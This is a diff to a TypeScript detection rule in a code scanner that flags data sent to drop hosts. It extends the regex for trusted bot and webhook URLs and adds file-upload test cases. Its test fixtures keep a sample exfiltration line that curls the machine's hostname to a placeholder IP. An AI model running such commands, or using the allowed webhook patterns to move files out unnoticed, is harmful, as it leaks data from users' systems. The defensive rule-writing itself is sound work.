@@ -12,8 +12,9 @@ import {
   secretVariable,
 } from "../vocabulary/sources.ts";
 
-/** Whoever runs the skill says which bot it is: its token is not written there. */
-const OWN_BOT = /api\.telegram\.org\/bot([^\x00-\x7f]|\{|<|YOUR)/i;
+/** Whoever runs the skill says which bot or hook it is: its key is not written there. */
+const OWN_BOT =
+  /(api\.telegram\.org\/bot|discord(app)?\.com\/api\/webhooks\/|hooks\.slack\.com\/services\/|open-apis\/bot\/v2\/hook\/|robot\/send\?access_token=|cgi-bin\/webhook\/send\?key=)([^\x00-\x7f]|\{|<|YOUR)|cgi-bin\/webhook\/(send|upload_media)$/i;
 
 export default defineRule({
   id: "data-sent-to-drop-host",
@@ -59,6 +60,8 @@ export default defineRule({
     { "run.sh": 'curl "http://203.0.113.9/?h=$(hostname)"' },
   ],
   good: [
+    'import requests\ndef send(key, path):\n    with open(path, "rb") as f:\n        requests.post("https://discord.com/api/webhooks/" + key, files={"file": f})',
+    'import requests\ndef send(key, path):\n    with open(path, "rb") as f:\n        requests.post("https://qyapi.weixin.qq.com/cgi-bin/webhook/upload_media", params={"key": key}, files={"media": f})',
     'import os, requests\nTOKEN = os.environ["TELEGRAM_BOT_TOKEN"]\nrequests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", files={"document": open("report.pdf", "rb").read()})',
     { "run.sh": 'cat report.txt | curl -F document=@- "https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendDocument"' },
     'import requests\nrequests.post("https://hooks.slack.com/services/x", json={"text": "build done"})',
